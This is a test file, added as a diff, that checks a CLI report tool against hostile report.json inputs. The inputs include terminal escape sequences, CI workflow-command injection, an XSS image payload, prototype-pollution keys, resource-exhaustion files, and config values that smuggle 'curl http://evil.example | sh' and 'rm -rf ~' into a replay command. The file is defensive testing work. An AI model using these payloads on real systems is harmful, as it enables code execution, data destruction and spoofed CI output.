@@ -1,0 +1,292 @@
+/**
+ * Hostile report artefacts: a report.json may come from another job of the pull request a gate
+ * judges, so `vapc report` and `vapc report merge` must treat it like a server's answer. Each case
+ * is a crafted file that either is refused (exit 2, one line, never "internal error") or renders
+ * inert (no control character, no line a runner reads as a workflow command, no Markdown or HTML
+ * of its making, no trust in its own counts or baseline marks). The big ones run in a child
+ * process, where time and peak memory are measured loosely (< 10 s, < 300 MB).
+ */
+import { execFile } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { afterAll, describe, expect, it } from 'vitest';
+import { main, type CliIo } from '../../../src/cli/main.js';
+import type { CheckResult, RunReport } from '../../../src/results/model.js';
+import { hasControls } from '../../../src/results/printable.js';
+import { FIXTURES } from '../../helpers/reports.js';
+
+const root = mkdtempSync(join(tmpdir(), 'vapc-hostile-artefacts-'));
+afterAll(() => rmSync(root, { recursive: true, force: true }));
+
+const fixture = (name: string): RunReport => JSON.parse(readFileSync(join(FIXTURES, `${name}.json`), 'utf8')) as RunReport;
+
+/** A directory holding `report` (an object, or raw JSON text) as report.json. */
+function dirWith(report: unknown): string {
+  const dir = mkdtempSync(join(root, 'r-'));
+  writeFileSync(join(dir, 'report.json'), typeof report === 'string' ? report : JSON.stringify(report));
+  return dir;
+}
+
+/** The failing fixture split into shards 1/2 and 2/2, `edit` applied to both before writing. */
+function shardDirs(edit: (parts: RunReport[]) => void = () => {}): string[] {
+  const whole = fixture('failing-run');
+  const cut = 7;
+  const parts = [whole.results.slice(0, cut), whole.results.slice(cut)].map((results, i) => ({
+    ...whole,
+    results,
+    shard: { index: i + 1, count: 2, plan_size: whole.results.length, positions: results.map((_, k) => k + (i === 0 ? 0 : cut)) },
+  }));
+  edit(parts);
+  return parts.map(dirWith);
+}
+
+/** A passing report with one failed result the artefact itself marks as a known finding. */
+function forgedKnown(): RunReport {
+  const r = fixture('passing-run');
+  const failed: CheckResult = {
+    ...r.results[0]!,
+    status: 'failed',
+    message: 'status 500 on a valid request',
+    failures: [{ expected: 'status 201', actual: 'status 500' }],
+    baseline: { known: true, kinds: ['status:5xx'], reason: 'accepted' },
+  };
+  return {
+    ...r,
+    results: [failed, ...r.results.slice(1)],
+    summary: { ...r.summary, failed: 1, new_failures: 0, known: 1 },
+    baseline: { file: 'baseline.yaml', entries: 1, known: 1, new_failures: 0, expired: 0, not_observed: [] },
+  };
+}
+
+interface Ran {
+  code: number;
+  out: string;
+  err: string;
+}
+
+async function vapc(args: string[], env: Record<string, string> = {}): Promise<Ran> {
+  let out = '';
+  let err = '';
+  const io: CliIo = { stdout: (t) => void (out += t), stderr: (t) => void (err += t), env, isTTY: false };
+  const code = await main(args, io);
+  return { code, out, err };
+}
+
+interface Measured extends Ran {
+  ms: number;
+  rssMb: number;
+}
+
+const CHILD = join(process.cwd(), 'test', 'catalog', 'hostile', 'artefacts-child.ts');
+
+/** Runs vapc in a child process (heap capped at 512 MB so a runaway ends there, not in the machine's memory). */
+async function vapcChild(args: string[]): Promise<Measured> {
+  const run = promisify(execFile);
+  try {
+    const { stdout } = await run(process.execPath, ['--max-old-space-size=512', '--import', 'tsx', CHILD, JSON.stringify(args)], { timeout: 60_000, maxBuffer: 1 << 20 });
+    const r = JSON.parse(stdout) as { code: number; stdout: string; stderr: string; ms: number; rssMb: number };
+    return { code: r.code, out: r.stdout, err: r.stderr, ms: r.ms, rssMb: r.rssMb };
+  } catch (e) {
+    const failure = e as { code?: number | string; signal?: string; stderr?: string };
+    return { code: Number(failure.code ?? -1), out: '', err: `child died (${failure.signal ?? failure.code}): ${String(failure.stderr ?? '').slice(-300)}`, ms: Infinity, rssMb: Infinity };
+  }
+}
+
+/** Exit 2 with one line, not "internal error", matching `why`. */
+function expectRefused(r: Ran, why: RegExp): void {
+  expect(r.code, r.err).toBe(2);
+  expect(r.err.trimEnd().split('\n'), r.err).toHaveLength(1);
+  expect(r.err).toMatch(/^vapc: .* \[E_(CONFIG|USAGE)\]\n$/);
+  expect(r.err).not.toMatch(/internal error/);
+  expect(r.err).toMatch(why);
+}
+
+/** No control character, no CR, no line a CI runner would read as a workflow command. */
+function expectInert(text: string): void {
+  for (const line of text.split('\n')) {
+    expect(hasControls(line), JSON.stringify(line)).toBe(false);
+    expect(line, line).not.toMatch(/^\s*::/);
+  }
+}
+
+const BIG = { ms: 10_000, rssMb: 300 };
+
+describe('hostile report artefacts: refused with exit 2 and one line', () => {
+  it('a forged shard count of 4294967295 (merge used to abort the process at 1.5 GB)', async () => {
+    const dirs = shardDirs((parts) => parts.forEach((p) => (p.shard!.count = 4294967295)));
+    const r = await vapcChild(['report', 'merge', ...dirs, '--report-dir', join(root, 'merged-count')]);
+    expectRefused(r, /shard/);
+    expect(r.ms).toBeLessThan(BIG.ms);
+    expect(r.rssMb).toBeLessThan(BIG.rssMb);
+  }, 60_000);
+
+  it('a forged shard count within bounds but above the shards given names a few missing, not millions', async () => {
+    const dirs = shardDirs((parts) => parts.forEach((p) => (p.shard!.count = 999_999)));
+    const r = await vapc(['report', 'merge', ...dirs, '--report-dir', join(root, 'merged-count2')]);
+    expectRefused(r, /shards 3\/999999, .* and 999987 more missing/);
+    expect(r.err.length).toBeLessThan(500);
+  });
+
+  it('a report over the size cap is refused before it is read', async () => {
+    const dir = dirWith(`{"target":"${'a'.repeat(17 * 1024 * 1024)}","seed":1,"summary":{},"results":[]}`);
+    const r = await vapcChild(['report', dir, '--format', 'console']);
+    expectRefused(r, /is 17825\d\d\d bytes; a report may have at most 16777216/);
+    expect(r.ms).toBeLessThan(BIG.ms);
+    expect(r.rssMb).toBeLessThan(BIG.rssMb);
+  }, 60_000);
+
+  it('a huge array (300 000 observations) is refused by its bound', async () => {
+    const r0 = fixture('passing-run');
+    const dir = dirWith({ ...r0, observations: Array.from({ length: 300_000 }, (_, i) => ({ id: 'o', message: `m${i}` })) });
+    const r = await vapcChild(['report', dir]);
+    expectRefused(r, /observations must NOT have more than 100000 items/);
+    expect(r.ms).toBeLessThan(BIG.ms);
+    expect(r.rssMb).toBeLessThan(BIG.rssMb);
+  }, 60_000);
+
+  it('a huge array just under the size cap (7.9 million shard positions) is refused before it is parsed', async () => {
+    const dirs = shardDirs((parts) => {
+      parts[0]!.shard!.positions = new Array<number>(7_900_000).fill(0);
+    });
+    const r = await vapcChild(['report', 'merge', ...dirs, '--report-dir', join(root, 'merged-positions')]);
+    expectRefused(r, /holds more than 1000000 values/);
+    expect(r.ms).toBeLessThan(BIG.ms);
+    expect(r.rssMb).toBeLessThan(BIG.rssMb);
+  }, 60_000);
+
+  it('deep nesting (100 000 levels in config) is refused before anything walks it', async () => {
+    const r0 = fixture('passing-run');
+    const text = JSON.stringify({ ...r0, config: { x: '@' } }).replace('"@"', `${'['.repeat(100_000)}${']'.repeat(100_000)}`);
+    const started = Date.now();
+    expectRefused(await vapc(['report', dirWith(text)]), /nested deeper than 64 levels/);
+    expect(Date.now() - started).toBeLessThan(BIG.ms);
+  });
+
+  it('a __proto__ key in a result', async () => {
+    const text = JSON.stringify(fixture('failing-run')).replace('"id":', '"__proto__":{"polluted":true},"id":');
+    expectRefused(await vapc(['report', dirWith(text), '--format', 'console']), /key \/results\/0\/__proto__ is refused/);
+  });
+
+  it('a constructor key in the summary', async () => {
+    const text = JSON.stringify(fixture('failing-run')).replace('"summary":{', '"summary":{"constructor":{"prototype":1},');
+    expectRefused(await vapc(['report', dirWith(text), '--format', 'console']), /key \/summary\/constructor is refused/);
+  });
+
+  const wrongTypes: Array<[string, (r: RunReport) => void, RegExp]> = [
+    ['requests as a string', (r) => ((r.results[0] as unknown as Record<string, unknown>).requests = 'many'), /results\[0\]\.requests must be integer/],
+    ['a negative summary count', (r) => ((r.summary as unknown as Record<string, unknown>).requests = -5), /summary\.requests must be >= 0/],
+    ['a failure without expected', (r) => ((r.results[1]!.failures as unknown[])[0] = { actual: 'x' }), /results\[1\]\.failures\[0\]\.expected is missing/],
+    ['expected as an object', (r) => ((r.results[1]!.failures![0] as unknown as Record<string, unknown>).expected = { a: 1 }), /expected must be string/],
+    ['a message of 200 000 characters', (r) => (r.results[0]!.message = 'x'.repeat(200_000)), /message must NOT have more than 100000 characters/],
+  ];
+  for (const [what, edit, why] of wrongTypes) {
+    it(`wrong types: ${what}`, async () => {
+      const r = fixture('failing-run');
+      edit(r);
+      expectRefused(await vapc(['report', dirWith(r), '--format', 'console']), why);
+    });
+  }
+
+  it('ANSI in a suite name (suites are an enum)', async () => {
+    const r = fixture('failing-run');
+    (r.results[0] as unknown as Record<string, unknown>).suite = 'auth\u001b[2J\u001b]0;owned\u0007';
+    expectRefused(await vapc(['report', dirWith(r), '--format', 'console']), /results\[0\]\.suite must be one of auth, /);
+  });
+
+  it('OSC, ::error and a Markdown link in not_observed[].this_run (an enum)', async () => {
+    const r = forgedKnown();
+    r.baseline!.not_observed = [{ check: 'a.b', operation: 'GET /x', kind: 'mismatch', reason: 'r', this_run: 'passed\u001b]8;;http://evil\u0007\r::error::pwned [x](http://evil)' as 'passed' }];
+    expectRefused(await vapc(['report', dirWith(r), '--format', 'console']), /not_observed\[0\]\.this_run must be one of passed, failed, skipped, error, not-run/);
+  });
+});
+
+describe('hostile report artefacts: rendered inert', () => {
+  const HOSTILE = '\u001b[31mred\u001b]0;title\u0007\r::error::injected\n::warning file=x::two [link](http://evil.example) ![img](http://evil.example/x.png) <img src=x onerror=alert(1)>';
+
+  /** The failing fixture with hostile text in every free-text field vapc used to pass through. */
+  function hostile(): RunReport {
+    const r = fixture('failing-run');
+    r.results = r.results.map((x) => ({ ...x, id: `${x.id}${HOSTILE}`, operation: `${x.operation} ${HOSTILE}`, rule: `${x.rule} ${HOSTILE}`, message: `${x.message} ${HOSTILE}` }));
+    r.observations = r.observations.map((o) => ({ ...o, id: `${o.id}${HOSTILE}`, operation: HOSTILE }));
+    r.spec_version = HOSTILE;
+    return r;
+  }
+
+  it('the console shows ANSI, OSC, CR and ::commands from every field as visible text', async () => {
+    const r = await vapc(['report', dirWith(hostile()), '--format', 'console']);
+    expect(r.code).toBe(1);
+    expectInert(r.out + r.err);
+    expect(r.out).toContain('\\x1b[31mred');
+  });
+
+  it('the GitHub step summary and annotations render no link, image, HTML or command of the report\'s making', async () => {
+    const summary = join(mkdtempSync(join(root, 'gh-')), 'summary.md');
+    writeFileSync(summary, '');
+    const r = await vapc(['report', dirWith(hostile()), '--format', 'console'], { GITHUB_ACTIONS: 'true', GITHUB_STEP_SUMMARY: summary });
+    const md = readFileSync(summary, 'utf8');
+    expectInert(md);
+    // Outside code spans (where nothing renders), no `](` that is not escaped, no HTML tag.
+    const rendered = md.replace(/`[^`\n]*`/g, '');
+    expect(rendered).not.toMatch(/(?<!\\)\]\(/);
+    expect(rendered).not.toMatch(/<img|<a\s/i);
+    expect(rendered).toContain('\\[link\\]\\(http://evil.example\\)');
+    // Annotations are vapc's own commands: one ::error per failure, the report's text escaped inside them.
+    const commands = r.out.split('\n').filter((l) => l.startsWith('::'));
+    expect(commands.every((l) => /^::(error|warning) title=/.test(l))).toBe(true);
+    expect(commands.join('\n')).not.toMatch(/\r|\x1b/);
+  });
+
+  it('a rule of an unknown check id reaches SARIF as plain text only, never as Markdown', async () => {
+    const r = fixture('failing-run');
+    const evil = { ...r.results[1]!, id: 'evil.unknown-check', rule: '[click](http://evil.example) <img src=x onerror=alert(1)> **bold**' };
+    r.results.push(evil);
+    const dir = dirWith(r);
+    await vapc(['report', dir, '--format', 'sarif']);
+    const sarif = JSON.parse(readFileSync(join(dir, 'report.sarif'), 'utf8')) as { runs: Array<{ tool: { driver: { rules: Array<{ id: string; help: { text: string; markdown?: string } }> } } }> };
+    const rule = sarif.runs[0]!.tool.driver.rules.find((x) => x.id === 'evil.unknown-check')!;
+    expect(rule.help.markdown).toBeUndefined();
+    expect(rule.help.text).toContain('[click](http://evil.example)');
+    // The registry's own rules keep their Markdown help.
+    expect(sarif.runs[0]!.tool.driver.rules.find((x) => x.id === 'ranges.max-concurrency-above-maximum')!.help.markdown).toBeDefined();
+  });
+
+  it('a forged baseline.known: true on a failed result does not hide it (vapc report)', async () => {
+    const r = await vapc(['report', dirWith(forgedKnown()), '--format', 'console']);
+    expect(r.code).toBe(1);
+    expect(r.out).toMatch(/FAILED: 1 of \d+ checks failed/);
+    expect(r.err).toMatch(/pass --baseline FILE to recompute them/);
+  });
+
+  it('a forged baseline.known: true on a failed result does not hide it (vapc report merge)', async () => {
+    const dirs = shardDirs((parts) => {
+      const failed = parts[0]!.results.find((x) => x.status === 'failed')!;
+      for (const p of parts) for (const x of p.results) if (x.status === 'failed' && x !== failed) Object.assign(x, { status: 'passed', failures: [] });
+      failed.baseline = { known: true, kinds: ['status:4xx'], reason: 'accepted' };
+      for (const p of parts) p.results = p.results.map((x) => (x.status === 'error' ? { ...x, status: 'passed' } : x));
+    });
+    const out = join(root, 'merged-known');
+    const r = await vapc(['report', 'merge', ...dirs, '--report-dir', out]);
+    expect(r.code).toBe(1);
+    const merged = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as RunReport;
+    expect(merged.results.filter((x) => x.status === 'failed').every((x) => x.baseline === undefined)).toBe(true);
+  });
+
+  it('the replay command built from a forged config stays one command (no shell text of the report\'s making)', async () => {
+    const f = fixture('failing-run');
+    const r = await vapc(['report', dirWith({ ...f, config: { ...f.config, suites: ['auth', 'x; curl http://evil.example | sh'], config_file: "a'; rm -rf ~; '" } }), '--format', 'console']);
+    const replay = r.out.split('\n').find((l) => l.startsWith('replay: '))!;
+    expect(replay).toContain('--suite auth');
+    expect(replay).not.toContain('curl http://evil.example');
+    expect(replay).toContain(`--config 'a'\\''; rm -rf ~; '\\'''`);
+  });
+
+  it('forged summary counts are recomputed from the results', async () => {
+    const f = fixture('failing-run');
+    const r = await vapc(['report', dirWith({ ...f, summary: { ...f.summary, passed: 900, failed: 0, skipped: 0, errors: 0, requests: 999_999_999 } }), '--format', 'console']);
+    expect(r.code).toBe(1);
+    expect(r.out).toMatch(/^total\s+6\s+6\s+2\s+1$/m);
+    expect(r.out).not.toContain('999999999 requests');
+  });
+});
